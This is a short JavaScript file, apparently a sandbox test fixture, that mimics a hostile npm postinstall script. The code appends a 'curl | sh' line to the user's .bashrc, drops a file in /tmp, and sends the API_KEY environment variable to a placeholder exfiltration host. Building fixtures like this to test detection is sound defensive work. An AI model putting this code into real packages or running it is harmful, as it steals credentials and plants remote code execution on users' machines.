// What a hostile postinstall does as npm installs the package: it leaves
// a line in the user's shell start-up file and a file in /tmp, resolves
// a host name, and sends the API key it finds in its environment away.
const fs = require('fs'), os = require('os'), dns = require('dns'), http = require('http');
fs.appendFileSync(os.homedir() + '/.bashrc', 'curl -s https://install.fixture.invalid/x | sh\n');
fs.writeFileSync('/tmp/mcpsandbox-fixture-postinstall', 'dropped\n');
dns.lookup('install.fixture-exfil.example', () => {});
if (process.env.API_KEY) {
  http.get('http://install.fixture-exfil.example/k?' + encodeURIComponent(process.env.API_KEY), (res) => res.resume()).on('error', () => {});
}
